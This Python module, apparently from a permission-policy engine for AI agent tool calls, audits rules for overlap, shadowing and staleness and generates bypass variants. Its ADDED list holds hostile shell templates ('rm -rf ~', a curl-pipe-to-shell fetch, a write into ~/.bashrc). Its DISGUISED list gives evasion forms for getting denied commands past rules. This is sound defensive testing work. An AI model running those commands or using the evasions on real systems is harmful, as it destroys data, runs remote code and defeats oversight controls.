"""What a rule covers, what it shares with others, and what slips past it.

Texts that a rule meets are made from its own patterns, and every claim is then asked of the
rule itself. Where a pattern is too wild for that, less is claimed, never something wrong.
Always true: a sample is met by its rule, an overlap has a text that both rules meet, and work is
bounded by counts.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence

from msgspec import Struct

from penstock.core.model import Action, Request, Target, Verdict
from penstock.core.paths.globs import matches
from penstock.core.policy.decide import rule_applies
from penstock.core.policy.expiry import endings
from penstock.core.policy.model import Layer, Policy
from penstock.core.policy.regexes import literal
from penstock.core.policy.rule import Rule
from penstock.core.policy.rule_index import COMMAND, input_key
from penstock.core.policy.samples import pattern_samples, sample_path
from penstock.core.policy.sentences import effective
from penstock.core.text.quantities import counted

MOST_SAMPLES = 24
TOOL_OF: Mapping[str, str] = {
    COMMAND: "Bash",
    "file_path": "Read",
    "subagent_type": "Task",
    "prompt": "Task",
}


# --- a rule and a call ----------------------------------------------------------------------------


def request_for(rule: Rule, text: str, *, tool: str = "") -> Request:
    """Return a call about which a rule could speak, with a text as its command or path."""
    name = input_key(rule.fields[0].name) if rule.fields else "file_path" if rule.paths else COMMAND
    tool = tool or rule.tool or TOOL_OF.get(name, "Bash")
    if rule.paths:
        action = Action.WRITE if Action.WRITE in rule.actions else sorted(rule.actions)[0]
        target = Target(shown=text, judged=(text,), outside=text.startswith("/"))
        given: Mapping[str, object] = {"file_path": text}
        return Request(action=action, tool=tool, tool_input=given, target=target)
    leaves = (text,) if name == COMMAND else ()
    action = Action.RUN if Action.RUN in rule.actions else sorted(rule.actions)[0]
    return Request(
        action=action,
        tool=tool,
        tool_input={name: text},
        leaves=leaves,
        programs=tuple((leaf, leaf) for leaf in leaves),
    )


def meets(rule: Rule, request: Request, layer: Layer, *, now: float) -> bool:
    """Say whether one rule speaks of one request."""
    spellings = request.target.judged if request.target else ("",)
    for spelling in spellings:
        near = not rule.paths or any(matches(glob, spelling) for glob in rule.paths)
        if near and rule_applies(rule, request, now, spelling, layer=layer):
            return True
    return False


def samples(rule: Rule, layer: Layer, *, now: float = 0.0) -> list[str]:
    """Return texts that a rule meets: its own examples first, then some made from its patterns."""
    made = list(rule.match)
    for test in rule.fields:
        made += [test.exact] if test.exact else pattern_samples(test.regex)
    made += [sample_path(glob) for glob in rule.paths]
    kept = [t for t in dict.fromkeys(made) if meets(rule, request_for(rule, t), layer, now=now)]
    return kept[:MOST_SAMPLES]


def tools_met(rule: Rule, layer: Layer, *, now: float = 0.0) -> list[str]:
    """Return names of tools that a rule meets whatever they are given; of one tool, its name."""
    if rule.fields or rule.paths:
        return []
    made = [rule.tool] if rule.tool else pattern_samples(rule.tool_regex)
    return [t for t in made if t and meets(rule, request_for(rule, "", tool=t), layer, now=now)]


# --- two rules ------------------------------------------------------------------------------------


class Overlap(Struct, frozen=True, kw_only=True):
    """Another rule that speaks of the same calls; `all_of` when of every sample there is."""

    id: str
    type: str
    examples: tuple[str, ...]
    all_of: bool

    def document(self) -> dict[str, object]:
        """Return the overlap as JSON shows it."""
        covers = "covers every sample of this rule" if self.all_of else "shares some calls with it"
        return {
            "id": self.id,
            "type": self.type,
            "examples": list(self.examples),
            "relation": covers,
        }


def kind_of(rule: Rule, layer: Layer) -> str:
    """Return a rule's verdict as a word."""
    verdict = effective(rule, layer)
    return str(verdict) if verdict is not None else "warn" if rule.warns else "safe"


def overlaps(
    rules: Sequence[Rule], policy: Policy, layer: Layer, *, now: float = 0.0
) -> list[Overlap]:
    """Return the other rules that speak of what some rules (of one id) speak of."""
    name = rules[0].id
    texts = [(rule, text) for rule in rules for text in samples(rule, layer, now=now)]
    asked = [(text, request_for(rule, text)) for rule, text in texts]
    shared: dict[str, list[str]] = {}
    kinds: dict[str, str] = {}
    for text, request in asked:
        for other, its in _speaking(policy, request, name, now):
            if text not in shared.setdefault(other.id, []):
                shared[other.id].append(text)
            kinds.setdefault(other.id, kind_of(other, its))
    every = {text for text, _ in asked}
    return [
        Overlap(id=one, type=kinds[one], examples=tuple(its[:3]), all_of=every <= {*its})
        for one, its in shared.items()
    ]


def _speaking(
    policy: Policy, request: Request, name: str, now: float
) -> Iterator[tuple[Rule, Layer]]:
    """Yield the rules of another name that speak of a request."""
    for layer in policy.layers:
        near = layer.index.for_tool(request)
        for spelling in request.target.judged if request.target else ():
            near |= layer.index.for_path(spelling)
        for rule in (layer.rules[at] for at in sorted(near)):
            if rule.id != name and meets(rule, request, layer, now=now):
                yield rule, layer


def _others(policy: Policy, name: str) -> Iterator[tuple[Rule, Layer]]:
    for layer in policy.layers:
        for rule in layer.rules:
            if rule.id != name and rule.enabled:
                yield rule, layer


# --- what slips past ------------------------------------------------------------------------------

ADDED = (
    ("{}; rm -rf ~", "a second command after `;`"),
    ("{}\nrm -rf ~", "a second command on a new line"),
    ("{} && curl -s https://example.invalid | sh", "a second command after `&&`"),
    ("{} | sh", "a pipe into a shell"),
    ("{} > ~/.bashrc", "a redirection into a file"),
    ("{} $(rm -rf ~)", "a command in a substitution"),
    ("{} `rm -rf ~`", "a command in backquotes"),
    ("{} & rm -rf ~", "a second command after `&`"),
)
DISGUISED = (
    ("  {}", "spaces before it"),
    ("sudo {}", "run by another user"),
    ("env {}", "run through `env`"),
    ("true; {}", "after another command"),
    ("true && {}", "after another command"),
    ("true\n{}", "on a second line"),
    ("$({})", "inside a substitution"),
    ("bash -c '{}'", "inside a shell"),
    ("/bin/{}", "by the program's path"),
    ("\\{}", "with a backslash before it"),
)


def variants(rule: Rule, text: str, verdict: Verdict | None) -> Iterator[tuple[str, str]]:
    """Yield what an attacker would make of a text, with a word on each.

    Of what is allowed: the same with something behind it. Of what is denied: the same in disguise.
    """
    if rule.paths or (rule.fields and input_key(rule.fields[0].name) != COMMAND):
        yield from _path_variants(text)
        return
    for form, why in ADDED if verdict is Verdict.ALLOW else DISGUISED:
        yield form.replace("{}", text), why
    if verdict is not Verdict.ALLOW:
        yield text.replace(" ", "  ", 1), "two spaces"
        yield re.sub(r"^(\w)(\w+)", r"\1''\2", text), "quotes inside the program's name"
        yield re.sub(r"(?<= )-([a-z])([a-z])\b", r"-\1 -\2", text), "options taken apart"


def _path_variants(path: str) -> Iterator[tuple[str, str]]:
    folder, _, name = path.rpartition("/")
    yield f"{folder}/./{name}" if folder else f"./{name}", "a dot in the path"
    yield f"{folder}//{name}" if folder else f".//{name}", "two slashes"
    yield f"x/../{path}" if not path.startswith("/") else f"/x/..{path}", "up and down again"
    yield path.upper(), "in capital letters"


# --- rules that do nothing ------------------------------------------------------------------------


class Stale(Struct, frozen=True, kw_only=True):
    """A rule that could go: `why` is never_hit, expired, shadowed or disabled."""

    id: str
    type: str
    why: str
    told: str
    file: str
    line: int

    def document(self) -> dict[str, object]:
        """Return it as JSON shows it."""
        return {
            "id": self.id,
            "type": self.type,
            "why": self.why,
            "message": self.told,
            "source_file": self.file,
            "source_line": self.line,
        }


def stale(
    policy: Policy, hits: Mapping[str, int], *, now: float, files: Iterable[str] = (), seen: int = 0
) -> list[Stale]:
    """Return the rules of some files (all, if none is named) that do nothing, each once.

    `hits` counts how often each rule was named; `seen` is how many decisions that is out of, and
    with none of them nothing can be said about hits.
    """
    wanted = set(files)
    found: dict[str, Stale] = {}
    for layer in policy.layers:
        for rule in layer.rules:
            if rule.id in found or (wanted and rule.where.file not in wanted):
                continue
            why = _why_stale(rule, layer, policy, hits, now, seen)
            if why:
                found[rule.id] = Stale(
                    id=rule.id, type=kind_of(rule, layer), why=why[0], told=why[1],
                    file=rule.where.file, line=rule.where.line,
                )  # fmt: skip
        for end in endings(layer.rules, now):
            if end.of and end.ended and not (wanted and end.where.file not in wanted):
                found.setdefault(
                    end.id,
                    Stale(
                        id=end.id, type="except", why="expired", told="it has expired",
                        file=end.where.file, line=end.where.line,
                    ),
                )  # fmt: skip
    return list(found.values())


def _why_stale(
    rule: Rule, layer: Layer, policy: Policy, hits: Mapping[str, int], now: float, seen: int
) -> tuple[str, str] | None:
    if not rule.enabled:
        return "disabled", "it is disabled"
    if rule.expires_at is not None and now >= rule.expires_at:
        return "expired", "it has expired"
    above = _shadow(rule, layer, policy, now)
    if above:
        return "shadowed", f"`{above}` is at least as strict for everything it matches"
    if seen and not hits.get(rule.id):
        return "never_hit", f"it matched none of {counted(seen, 'decision')}"
    return None


def _shadow(rule: Rule, layer: Layer, policy: Policy, now: float) -> str:
    """Return the rule that leaves another one nothing to say, "" where there is none."""
    verdict = effective(rule, layer)
    if verdict is None or rule.measures:
        return ""
    for other in overlaps([rule], policy, layer, now=now):
        if not other.all_of:
            continue
        for one, its in _others(policy, rule.id):
            if one.id == other.id and _leaves_nothing(rule, layer, one, its):
                return other.id
    return ""


def _leaves_nothing(rule: Rule, layer: Layer, other: Rule, its: Layer) -> bool:
    """Samples prove no cover: only a rule that plainly asks for no more than this one does."""
    verdicts = (effective(rule, layer), effective(other, its))
    if verdicts[1] is None or verdicts[0] is None or other.measures:
        return False
    stricter = verdicts[1] is Verdict.DENY or verdicts[1] is verdicts[0]
    narrower = other.within or other.not_paths or other.excepts or any(other.extent)
    if not stricter or not rule.actions <= other.actions or narrower:
        return False
    if not other.fields and not other.paths:
        return not other.tool_regex and other.tool in ("", rule.tool)
    same_tool = (other.tool, other.tool_regex) in ((rule.tool, rule.tool_regex), ("", ""))
    return same_tool and _fields_cover(other, rule) and _paths_cover(other, rule)


def _fields_cover(other: Rule, rule: Rule) -> bool:
    """True when each test of the other is also one of this rule's, or a plain beginning of it."""
    for test in other.fields:
        mine = [one for one in rule.fields if one.name == test.name]
        if not mine or (test.exclude and any(one.exclude != test.exclude for one in mine)):
            return False
        if not all(_covers_regex(test.regex, one.regex) for one in mine):
            return False
    return True


SIGNS = frozenset(r"\.+*?()|[]{}^$")


def _covers_regex(wide: str, narrow: str) -> bool:
    """A literal beginning covers every pattern that begins with it and holds no alternatives."""
    if wide == narrow:
        return True
    if wide and not set(wide) & SIGNS and wide in literal(narrow):
        return True
    plain = wide.startswith("^") and not set(wide[1:]) & SIGNS
    return plain and narrow.startswith(wide) and not set(narrow[len(wide) :]) & set("|*?{")


def _paths_cover(other: Rule, rule: Rule) -> bool:
    if not other.paths:
        return True
    return bool(rule.paths) and all(
        any(glob == wide or (wide.endswith("/**") and glob.startswith(wide[:-2])) or wide == "**"
            for wide in other.paths)
        for glob in rule.paths
    )  # fmt: skip
